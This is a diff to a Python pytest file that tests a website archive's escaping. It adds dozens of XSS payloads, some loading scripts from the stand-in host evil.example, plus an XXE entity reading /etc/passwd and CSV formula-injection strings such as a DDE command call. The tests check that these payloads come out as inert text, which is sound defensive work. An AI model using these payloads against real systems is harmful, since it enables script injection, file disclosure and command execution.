@@ -2,14 +2,19 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
+import re
 from collections.abc import Callable, Iterator
 from itertools import pairwise
 from urllib.parse import quote, urlsplit
+from xml.etree import ElementTree as ET
 
 import lxml.html
 import pytest
 
+from archive.site.atom import ATOM
 from archive.site.plugins.headers import SECURITY
 from tests.archive.site.practice_room import REVISION, Article, Room, article
 
@@ -66,7 +71,46 @@ PAYLOADS = (
     "\u2028</script><script>alert(1)</script>",
     "koperasi <mark onmouseover=alert(1)>x</mark>",
     "<form action=https://evil.example><button>x",
+    "<script src=//evil.example/x.js></script>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<SCRIPT>alert(String.fromCharCode(88))</SCRIPT>",
+    "<script\n>alert(1)</script\n>",
+    "<script>alert`1`</script>",
+    "</script><script>alert(1)//",
+    "--></script><img src=x onerror=alert(1)>",
+    "</style><img src=x onerror=alert(1)>",
+    "</noscript><img src=x onerror=alert(1)>",
+    "</textarea></title></style></script><svg onload=alert(1)>",
+    "<img src=1 href=1 onerror='javascript:alert(1)'>",
+    "<img srcset='x 1x' onerror=alert(1)>",
+    "<image src=x onerror=alert(1)>",
+    "<body onload=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<marquee onstart=alert(1)>",
+    "<video><source onerror=alert(1)></video>",
+    "<audio src=x onerror=alert(1)>",
+    "<input autofocus onfocus=alert(1)>",
+    "<select autofocus onfocus=alert(1)>",
+    "<object data='javascript:alert(1)'></object>",
+    "<embed src='data:text/html,<script>alert(1)</script>'>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
+    "<template><script>alert(1)</script></template>",
+    "<a href='java\tscript:alert(1)'>x</a>",
+    "vbscript:msgbox(1)",
+    " javascript:alert(1)",
+    "feed:javascript:alert(1)",
+    "\" onmouseover=alert(1) x=\"",
+    "' onfocus=alert(1) autofocus x='",
+    "` onload=alert(1) `",
+    "]]><script>alert(1)</script><![CDATA[",
+    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
+    "\ufdd0<script>alert(1)</script>\ufdd1",
+    "\u202e<script>alert(1)</script>",
 )
+FORMULAS = ("=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", "=cmd|' /C calc'!A0")
 
 
 @pytest.mark.parametrize("lang", ["id", "en"])
@@ -210,3 +254,40 @@ def assert_harmless(tree: lxml.html.HtmlElement) -> None:
     assert tree.xpath("//script[not(@src) and not(@type='application/ld+json' and not(contains(., '<')))]") == []
     schemes = {urlsplit(address.strip()).scheme.lower() for address in tree.xpath("//@href|//@action|//@src")}
     assert schemes <= {"", "https", "http"}
+
+
+def test_sixty_payloads_are_tried() -> None:
+    assert len(set(PAYLOADS)) == 60
+
+
+def test_no_payload_breaks_a_format(hostile_room: Room) -> None:
+    """JSON, CSV, Atom and citations carry every payload as text, and nothing but text."""
+    hits = hostile_room.value("/cari.json?limit=100")["hits"]
+    assert {hit["title"] for hit in hits} == {payload for payload in PAYLOADS}
+    assert not any("<" in hit["snippet_html"].replace("<mark>", "").replace("</mark>", "") for hit in hits)
+    feed = ET.fromstring(hostile_room.get("/kantor/jombang.atom").content)
+    assert {node.tag.rpartition("}")[2] for node in feed.iter()} == {
+        "feed", "id", "title", "updated", "rights", "generator", "link", "entry", "author", "name", "category",
+        "published", "summary",
+    }  # fmt: skip
+    assert {urlsplit(link.get("href", "")).scheme for link in feed.iter(f"{{{ATOM}}}link")} == {"http"}
+    for number, payload in enumerate(PAYLOADS):
+        [cited] = hostile_room.value(f"/artikel/{1000 + number}.csl.json")
+        assert cited["title"] == payload
+        ris = hostile_room.get(f"/artikel/{1000 + number}.ris").text
+        assert len(re.findall(r"^ER  - ", ris, re.MULTILINE)) == 1
+    block = hostile_room.tree("/data").xpath("//script[@type='application/ld+json']/text()")[0]
+    assert json.loads(block)["@type"] == "Dataset"
+
+
+@pytest.mark.parametrize("address", ["/cari.csv", "/archive/articles.csv", "/archive/articles.csv?_stream=on"])
+def test_no_cell_of_a_table_is_a_formula(open_room: Callable[..., Room], address: str) -> None:
+    room = open_room([article(number, title=formula, body=formula) for number, formula in enumerate(FORMULAS)])
+    rows = list(csv.reader(io.StringIO(room.get(address).text, newline="")))
+    assert len(rows) == len(FORMULAS) + 1
+    cells = [cell for row in rows for cell in row]
+    assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))] == []
+
+
+def test_numbers_below_zero_stay_numbers(room: Room) -> None:
+    assert "-7.5" in room.get("/archive/offices.csv").text
